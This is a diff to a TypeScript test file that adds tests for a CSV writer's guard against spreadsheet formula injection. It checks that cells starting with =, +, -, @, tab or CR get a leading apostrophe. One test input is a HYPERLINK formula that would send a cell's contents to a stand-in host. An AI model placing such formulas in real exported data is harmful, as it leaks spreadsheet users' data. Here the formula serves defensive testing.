@@ -56,10 +56,28 @@ describe('CSV by RFC 4180', () => {
     expect(csvField(' padded ')).toBe('" padded "');
   });
 
-  it('gives back every record of any text', () => {
+  it("gives back every record of any text, once the formula guard's leading ' is removed", () => {
+    const unguarded = (field: string): string => (field.startsWith("'") ? field.slice(1) : field);
     fc.assert(
       fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), { maxLength: 6 }), (records) => {
-        expect(readRecords(records.map(csvRecord).join(''))).toEqual(records);
+        expect(readRecords(records.map(csvRecord).join('')).map((r) => r.map(unguarded))).toEqual(records);
+      }),
+    );
+  });
+
+  it("keeps a value a spreadsheet would run as a formula as text: a leading ' before = + - @ TAB CR (and ' itself)", () => {
+    expect(csvField('=HYPERLINK("http://x.test/?"&A1,"open")')).toBe(`"'=HYPERLINK(""http://x.test/?""&A1,""open"")"`);
+    expect(csvField('+1')).toBe("'+1");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\tcmd')).toBe("'\tcmd");
+    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
+    expect(csvField("'quoted")).toBe("''quoted");
+    expect(csvField('/Volumes/MEDIA/=HYPERLINK(1).mov')).toBe('/Volumes/MEDIA/=HYPERLINK(1).mov');
+    expect(csvField('a=b')).toBe('a=b');
+    fc.assert(
+      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), (fields) => {
+        for (const cell of readRecords(csvRecord(fields))[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
       }),
     );
   });
